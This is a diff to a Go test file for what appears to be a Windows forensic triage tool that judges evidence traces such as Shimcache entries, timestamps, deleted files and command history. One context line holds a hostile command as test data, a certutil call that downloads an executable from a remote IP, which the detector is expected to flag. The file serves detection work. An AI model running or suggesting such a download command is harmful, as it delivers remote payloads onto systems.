@@ -87,6 +87,8 @@ func TestJudge(t *testing.T) {
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceUserAssist, "Image", `C:\Users\Public\Desktop\Mozilla Firefox.lnk`), ""},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Windows\TEMP\{605A2280-1237-4AB3-9B33-3673E9E66D88}\MpSigStub.exe`), ""},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Users\anna\AppData\Local\Temp\7zS8E89D0D4\Installer.exe`), ""},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceTimes, "Image", `C:\ProgramData\evil.exe`, "Details", "made 2015-01-01T00:00:00Z"), TraceTimes},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceDeleted, "Image", `C:\ProgramData\vendor\a.exe`, "Details", "deleted; made 2026-01-01T00:00:00Z"), ""},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceHistory, "CommandLine", `certutil -urlcache -f http://192.0.2.9/a.exe a.exe`), TraceCommand},
 
 		{start(evidence.StartService, "Schedule", `%SystemRoot%\System32\svchost.exe -k netsvcs`, `C:\Windows\System32\svchost.exe`, "Details", `%systemroot%\system32\schedsvc.dll`), ""},
